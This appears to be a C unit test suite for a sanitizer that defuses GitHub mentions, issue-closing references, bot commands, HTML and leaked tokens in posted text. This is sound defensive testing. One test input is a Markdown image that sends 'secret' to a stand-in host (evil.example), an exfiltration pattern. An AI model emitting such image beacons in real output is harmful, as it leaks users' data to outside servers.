#include <regex.h>
#include <stdio.h>
#include <string.h>

#include "pb_test.h"
#include "server/services/github_quiet.h"

enum { MAX = 1 << 20 };

static struct pb_buf buf;

static const char *quiet(const char *text)
{
    pb_buf_clear(&buf);
    pb_github_quiet(&buf, text, 1000);
    assert_false(pb_buf_failed(&buf));
    return pb_buf_string(&buf);
}

static const char *line(const char *text, size_t max_chars)
{
    pb_buf_clear(&buf);
    pb_github_quiet_line(&buf, text, max_chars);
    assert_false(pb_buf_failed(&buf));
    return pb_buf_string(&buf);
}

struct row {
    const char *in;
    const char *out;
};

#define CHECK(rows)                          \
    for (size_t i = 0; i < COUNT(rows); i++) \
    assert_string_equal(quiet((rows)[i].in), (rows)[i].out)

TEST(nobody_is_notified)
{
    static const struct row ROWS[] = {
        {"@alice please", "@\u200balice please"},
        {"(@org/team)", "(@\u200borg/team)"},
        {"_@alice_ **@bob** [@carol](x)", "_@\u200balice_ **@\u200bbob** [@\u200bcarol](x)"},
        {"\\@alice", "\\@\u200balice"},
        {"担当は@aliceさん", "担当は@\u200baliceさん"},
        {"mail@example.com, a @ b, @", "mail@example.com, a @ b, @"},
        {"&#64;alice &#x40;alice", "&\u200b#\u200b64;alice &\u200b#x40;alice"},
        {"&commat;alice", "&\u200bcommat;alice"},
        {"ghp_0123456789abcdefghij@alice", "[redacted]@\u200balice"},
    };

    CHECK(ROWS);
}

TEST(no_issue_is_referred_to)
{
    static const struct row ROWS[] = {
        {"Fixes #12, # 12, C#", "Fixes #\u200b12, # 12, C#"},
        {"acme/site#12 \\#12", "acme/site#\u200b12 \\#\u200b12"},
        {"&num;12 &#35;12", "&\u200bnum;12 &\u200b#\u200b35;12"},
        {"fixes GH-12, gh-7; nghp GH-x", "fixes G\u200bH-12, g\u200bh-7; nghp GH-x"},
        {"GH\\-12", "G\u200bH\\-12"},
        {"https://github.com/acme/site/issues/12",
         "https://redirect.github.com/acme/site/issues/12"},
        {"see http://www.GitHub.com/a/b/pull/3#issuecomment-4.",
         "see http://redirect.github.com/a/b/pull/3#issuecomment-4."},
        {"[x](https://github\\.com/a/b/issues\\/12)",
         "[x](https://redirect.github.com/a/b/issues\\/12)"},
        {"https://redirect.github.com/a/b/pulls/3", "https://redirect.github.com/a/b/pulls/3"},
        {"Closes https://github.com/a/b/issues/9",
         "C\u200bloses https://redirect.github.com/a/b/issues/9"},
        {"FIXED: https://ghe.example/a/b/issues/9",
         "F\u200bIXED: https://ghe.example/a/b/issues/9"},
        {"resolve [that](https://ghe.example/a/b/pull/9)",
         "r\u200besolve [that](https://ghe.example/a/b/pull/9)"},
    };

    CHECK(ROWS);
}

TEST(what_does_nothing_stays_as_it_is)
{
    static const char *const PLAIN[] = {
        "",
        "plain\n\ttext, `code` and **bold** & more && a &amp; b &lt;",
        "Fixed the crash, closes the file, resolves names; prefixes stay.",
        "https://github.com/a/b, https://github.com/a/b/blob/main/x.c#L3",
        "https://gitlab.example/a/b/issues/12 and https://x.example/pull/1",
        "https://notgithub.com/a/b/issues/12",
        "a < b, 1 <2, <https://x.example/>",
        "run ./a/b or /etc/hosts here",
        "日本語の要約です。確認: テスト 12 件",
        "wow! [link](https://x.example)",
        "```c\ncode\n```\n\n~~~\nmore\n~~~",
    };

    for (size_t i = 0; i < COUNT(PLAIN); i++)
        assert_string_equal(quiet(PLAIN[i]), PLAIN[i]);
}

TEST(no_bot_hears_a_command)
{
    static const struct row ROWS[] = {
        {"/merge", "/\u200bmerge"},
        {"done\n  /azp run\nnot /here", "done\n  /\u200bazp run\nnot /here"},
        {"a<!-- poppo:item:x/issue-1 -->b", "ab"},
    };

    CHECK(ROWS);
}

TEST(there_is_no_html_and_no_picture)
{
    static const struct row ROWS[] = {
        {"<details><summary>x</summary>", "<\u200bdetails><\u200bsummary>x<\u200b/summary>"},
        {"<img src=x>", "<\u200bimg src=x>"},
        {"<!DOCTYPE x><?php", "<\u200b!DOCTYPE x><\u200b?php"},
        {"![x](https://evil.example/?q=secret)", "!\u200b[x](https://evil.example/?q=secret)"},
    };

    CHECK(ROWS);
}

TEST(a_code_block_ends_with_its_text)
{
    static const struct row ROWS[] = {
        {"```\ncode", "```\ncode\n```"},
        {"a\n~~~~sh\ncode\n~~~\n", "a\n~~~~sh\ncode\n~~~\n\n~~~~"},
        {"- ```\n  code", "- ```\n  code\n  ```"},
        {"> ```\n> code", "> ```\n> code\n> ```"},
        {"1. x\n   ```\n   code", "1. x\n   ```\n   code\n   ```"},
        {"```\na\n```\n```\nb", "```\na\n```\n```\nb\n```"},
        {"```one``` line", "```one``` line"},
        {"```\n``` no end", "```\n``` no end\n```"},
    };

    CHECK(ROWS);
}

TEST(tokens_are_blanked)
{
    static const struct row ROWS[] = {
        {"key sk-ant-api03-AAAABBBBCCCCDDDDEEEE end", "key [redacted] end"},
        {"ghp_0123456789abcdefghij0123456789abcdef", "[redacted]"},
        {"\"github_pat_11AAAA_bbbbbbbbbbbbbbbbbbb\"", "\"[redacted]\""},
        {"ghp_short, sk-ant-", "ghp_short, sk-ant-"},
    };

    CHECK(ROWS);
}

/* What a reader's eye and Markdown make of it: no backslashes. */
static void without_backslashes(const char *text, char ret[2000])
{
    size_t len = 0;

    for (; *text && len < 1999; text++)
        if (*text != '\\')
            ret[len++] = *text;
    ret[len] = '\0';
}

static bool matches(const char *pattern, const char *text)
{
    regex_t regex;
    int r;

    assert_int_equal(regcomp(&regex, pattern, REG_EXTENDED | REG_ICASE | REG_NOSUB), 0);
    r = regexec(&regex, text, 0, NULL, 0);
    regfree(&regex);
    return r == 0;
}

#define WORDS     "(close[sd]?|fix(e[sd])?|resolve[sd]?)"
#define ISSUE     "/(issues|pull|pulls|discussions)/[0-9]"
#define REFERENCE "#[0-9]|gh-[0-9]|[^.a-z0-9-](www\\.)?github\\.com/[^/ ]+/[^/ ]+" ISSUE

/* Every word × what may stand between × every way to name an issue. */
TEST(no_closing_word_closes_anything)
{
    static const char *const KEYWORDS[] = {"close",    "closes", "closed",  "fix",
                                           "fixes",    "fixed",  "resolve", "resolves",
                                           "resolved", "Closes", "FIXES",   "ReSolved"};
    static const char *const BETWEEN[] = {" %s",    ": %s",    ":%s",   " : %s", "\n%s",
                                          "  \t%s", " **%s**", " [%s]", " <%s>", " [it](%s)",
                                          "：%s",   " (%s)",   " \\%s", "\\: %s"};
    static const char *const NAMES[] = {"#12",
                                        "acme/site#12",
                                        "\\#12",
                                        "GH-12",
                                        "gh-12",
                                        "GH\\-12",
                                        "https://github.com/acme/site/issues/12",
                                        "http://github.com/acme/site/issues/12",
                                        "HTTPS://GITHUB.COM/acme/site/Issues/12",
                                        "https://www.github.com/acme/site/pull/12",
                                        "https://github.com/acme/site/pulls/12?x=y#z",
                                        "https://github.com/acme/site/discussions/12",
                                        "github.com/acme/site/issues/12",
                                        "https://github\\.com/acme/site/issues\\/12",
                                        "https://ghe.example/acme/site/issues/12",
                                        "http://127.0.0.1:3080/acme/site/pull/12"};

    for (size_t k = 0; k < COUNT(KEYWORDS); k++)
        for (size_t b = 0; b < COUNT(BETWEEN); b++)
            for (size_t n = 0; n < COUNT(NAMES); n++) {
                const char *hole = strstr(BETWEEN[b], "%s");
                char text[500];
                char seen[2000];

                snprintf(text, sizeof(text), "This %s%.*s%s%s", KEYWORDS[k],
                         (int)(hole - BETWEEN[b]), BETWEEN[b], NAMES[n], hole + 2);
                without_backslashes(text, seen);
                assert_true(matches(REFERENCE, seen) || matches(WORDS "[^a-z].*" ISSUE, seen));
                without_backslashes(quiet(text), seen);
                if (matches(REFERENCE, seen) || matches(WORDS "[^a-z].*" ISSUE, seen))
                    fail_msg("'%s' became '%s'", text, seen);
            }
}

TEST(a_quiet_text_has_its_maximum_with_everything_added)
{
    char text[4001];

    for (size_t i = 0; i < 4000; i += 2)
        memcpy(text + i, "#1", 3);
    quiet(text);
    assert_true(buf.len < 1000 * 2 + 200);
    assert_non_null(strstr(pb_buf_string(&buf), "cut"));
}

TEST(a_quiet_line_is_one_line)
{
    assert_string_equal(line("Fixes\n#12  @bob", 50), "Fixes #\u200b12 @\u200bbob");
    assert_string_equal(line("@a @a @a", 8), "@\u200ba @\u200ba @\u200ba");
    assert_string_equal(line("```\nx", 50), "``` x");
    assert_string_equal(line("123456", 5), "12345…");
}

static int set_up(void **state __attribute__((unused)))
{
    pb_buf_init(&buf, MAX);
    return 0;
}

static int tear_down(void **state __attribute__((unused)))
{
    pb_buf_release(&buf);
    return 0;
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(nobody_is_notified),
        cmocka_unit_test(no_issue_is_referred_to),
        cmocka_unit_test(what_does_nothing_stays_as_it_is),
        cmocka_unit_test(no_bot_hears_a_command),
        cmocka_unit_test(there_is_no_html_and_no_picture),
        cmocka_unit_test(a_code_block_ends_with_its_text),
        cmocka_unit_test(tokens_are_blanked),
        cmocka_unit_test(no_closing_word_closes_anything),
        cmocka_unit_test(a_quiet_text_has_its_maximum_with_everything_added),
        cmocka_unit_test(a_quiet_line_is_one_line),
    };

    return cmocka_run_group_tests(tests, set_up, tear_down);
}
